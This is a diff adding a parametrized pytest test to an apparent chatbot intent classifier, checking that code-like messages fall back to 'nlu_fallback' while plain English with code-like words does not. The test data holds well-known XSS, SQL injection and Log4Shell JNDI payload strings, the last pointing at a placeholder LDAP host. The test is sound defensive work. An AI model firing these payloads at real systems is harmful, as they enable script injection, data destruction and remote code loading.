@@ -45,6 +45,20 @@ def test_only_messages_of_unknown_latin_words_fall_back(tmp_path: Path, text: st
         assert [r["name"] for r in message.get("intent_ranking")] == ["nlu_fallback", "thank"]
 
 
+@pytest.mark.parametrize(("text", "falls_back"), [
+    ("<script>alert(1)</script>", True), ('"><img src=x onerror=alert(1)>', True), ("'; DROP TABLE orders;--", True),
+    ("SELECT * FROM users", True), ("${jndi:ldap://x.y/a}", True), ("' OR 1=1 --", True),
+    # English that reads like the words of code is no code
+    ("invoice please select the black one from the list", False), ("thanks <3", False), ("bye -- thanks", False),
+    ("delete from my cart please", False),
+])
+def test_code_falls_back_whatever_its_words(tmp_path: Path, text: str, falls_back: bool) -> None:
+    # "alert", "select", "from" may all be words of English training lines; code is still no message
+    message = _classified(text)
+    _trained(tmp_path).process([message])
+    assert (message.get(INTENT)["name"] == "nlu_fallback") is falls_back
+
+
 def test_a_message_already_fallen_back_is_left_as_it_is(tmp_path: Path) -> None:
     message = _classified("qwerty", intent="nlu_fallback")
     _trained(tmp_path).process([message])
